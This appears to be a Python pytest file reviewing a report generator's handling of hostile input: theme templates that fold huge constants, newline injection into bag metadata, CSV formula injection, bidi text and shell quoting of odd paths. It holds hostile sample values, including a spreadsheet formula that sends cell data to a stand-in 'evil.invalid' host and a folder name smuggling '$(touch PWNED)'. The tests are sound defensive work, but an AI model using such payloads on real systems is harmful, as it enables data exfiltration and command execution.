"""A hostile-input review (s23): each finding's behaviour, with real files and the real CLI."""

from __future__ import annotations

import csv
import io
import os
import shlex
import shutil
from pathlib import Path

import numpy as np
import pytest

from reportgen.bundle import render_tag_value
from reportgen.readers import git as gitreader
from reportgen.records import OutputData
from reportgen.site.downloads import build_csv_text
from tests.invariants import assert_one_error_line, run_cli
from tests.readers.builders import Node, Out, metadata, write_job, write_log


def _one_job_store(root: Path, values: object = (1.0, 2.0)) -> Path:
    store = root / "store"
    write_job(store / "p" / "j1.hdf5", metadata("p", "j1"), [Node("QPU", [Out("v", np.asarray(values))])])
    write_log(store / "p" / "j1" / "QPU.log", "done\n")
    return store


@pytest.mark.parametrize("expression", ['("a"*100000)*30000', '"ab"*(10**9)', "2**100000"])
def test_a_theme_cannot_make_a_huge_value_even_at_compile_time(tmp_path: Path, expression: str) -> None:
    """jinja2 folded constants while compiling, in the uncapped build process: 100 bytes made 3 GB."""
    (tmp_path / "theme").mkdir()
    (tmp_path / "theme" / "base.html").write_text('{% extends "reportgen/base.html" %}{% block header_start %}'
                                                  f"{{{{ {expression} }}}}{{% endblock %}}")
    run = run_cli("build", _one_job_store(tmp_path), "-o", tmp_path / "site", "--templates", tmp_path / "theme")
    assert_one_error_line(run, 78, "not allowed in a theme", str(tmp_path / "theme" / "base.html"))


def test_safe_directory_entries_are_read_as_git_reads_them(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    included = tmp_path / "included"
    included.write_text("[safe]\n\tdirectory = /from/include\n")
    config = tmp_path / "gitconfig"
    config.write_text(f'[safe]\n\tdirectory = *\n\tdirectory =\n\tdirectory = "/x\\n*"\n[include]\n\tpath = {included}\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    # in order, the empty reset kept (it cancels the '*' before it), the newline inside one value, the include read
    assert gitreader.trusted_directories.__wrapped__() == ("*", "", "/x\n*", "/from/include")


def test_a_folder_name_cannot_add_a_line_to_bag_info(example_store: Path, tmp_path: Path) -> None:
    assert render_tag_value("x\nBagging-Date: 1999-01-01\r\u2028y") == "x Bagging-Date: 1999-01-01  y"
    store = tmp_path / "lab\nBagging-Date: 1999-01-01"
    shutil.copytree(example_store, store, symlinks=True)  # the folder's name is what the bag records
    run = run_cli("bundle", "create", store, "-o", tmp_path / "bag")
    assert run.code == 0, run.stderr
    info = (tmp_path / "bag" / "bag-info.txt").read_text().splitlines()
    assert not [line for line in info if line.startswith("Bagging-Date: 1999")]
    assert any(line.startswith("External-Identifier: lab Bagging-Date: 1999-01-01") for line in info)


def test_csv_text_cells_never_start_a_spreadsheet_formula() -> None:
    values = ('=HYPERLINK("http://evil.invalid/?"&A1,"x")', "@SUM(1)", "+1", "-2 dBm", "\tx", "plain")
    text = build_csv_text(OutputData("/n/o", "str", values, ()))
    cells = [row[2] for row in csv.reader(io.StringIO(text))][1:]
    assert cells == ["'" + v for v in values[:-1]] + ["plain"]
    numbers = build_csv_text(OutputData("/n/o", "float", np.array([-1.5, 2.0]), ()))
    assert [row[2] for row in csv.reader(io.StringIO(numbers))][1:] == ["-1.5", "2.0"]  # numbers stay numbers


def test_data_text_is_bidi_isolated_on_the_page() -> None:
    css = (Path(__file__).parents[2] / "site_templates" / "static" / "site.css").read_text()
    assert "code, bdi { unicode-bidi: isolate; }" in css
    failure = (Path(__file__).parents[2] / "site_templates" / "_partials" / "failure.html").read_text()
    assert "<bdi>{{ item.text }}</bdi>" in failure and "<code>{{ item.text }}</code>" in failure


@pytest.mark.parametrize("url", ["http://[::1/", "http://a]/", "http://[x]/"])
def test_a_malformed_bracketed_host_is_a_usage_error(tmp_path: Path, url: str) -> None:
    run = run_cli("build", _one_job_store(tmp_path), "-o", tmp_path / "site", "--base-url", url)
    assert_one_error_line(run, 64, "not an absolute http", "--base-url")


def test_paths_in_printed_commands_are_shell_quoted(tmp_path: Path) -> None:
    store = _one_job_store(tmp_path)
    odd = tmp_path / "my store;$(touch PWNED)"
    os.rename(store, odd)
    (odd / "p" / ".DS_Store").write_bytes(b"x")  # a warning, so the summary names the inspect command
    run = run_cli("export", odd, "-o", tmp_path / "x.aiida")
    assert run.code == 0, run.stderr
    command = run.stdout.split("(reportgen inspect ", 1)[1].rsplit(" lists them)", 1)[0]
    assert shlex.split(command) == [str(odd)]
    assert "safe.directory '/a b;c'" in gitreader.git_cause("fatal: detected dubious ownership", repo=Path("/a b;c"))
